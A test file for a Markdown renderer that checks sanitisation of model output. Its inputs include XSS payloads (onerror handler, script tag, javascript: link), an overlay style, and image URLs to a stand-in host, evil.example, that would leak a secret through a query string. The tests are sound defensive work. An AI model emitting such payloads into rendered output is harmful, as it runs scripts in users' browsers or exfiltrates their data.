import { renderMarkdown } from "./markdown";

describe("renderMarkdown", () => {
  it("renders Markdown", () => {
    const html = renderMarkdown("**Step 1**\n\n```\nipconfig /all\n```");
    expect(html).toContain("<strong>Step 1</strong>");
    expect(html).toContain("<code>ipconfig /all");
  });

  it("strips scripts and event handlers from model output", () => {
    const html = renderMarkdown('<img src=x onerror="alert(1)"><script>alert(2)</script>[x](javascript:alert(3))');
    expect(html).not.toContain("onerror");
    expect(html).not.toContain("<script");
    expect(html).not.toContain("javascript:");
  });
});

describe("renderMarkdown and outside content", () => {
  it("drops external images and style attributes (no pixels, no overlays)", () => {
    const html = renderMarkdown(
      '![x](https://evil.example/p.png?d=secret) <img src="https://evil.example/a.gif">' +
        '<div style="position:fixed;inset:0">overlay</div> <svg><image href="https://e.x/i"/></svg>',
    );
    expect(html).not.toContain("<img");
    expect(html).not.toContain("evil.example");
    expect(html).not.toContain("style=");
    expect(html).not.toContain("<svg");
    expect(html).toContain("overlay");
  });

  it("opens links in a new tab without an opener", () => {
    const html = renderMarkdown("[docs](https://learn.microsoft.com/x)");
    expect(html).toContain('target="_blank"');
    expect(html).toContain('rel="noopener noreferrer"');
  });
});
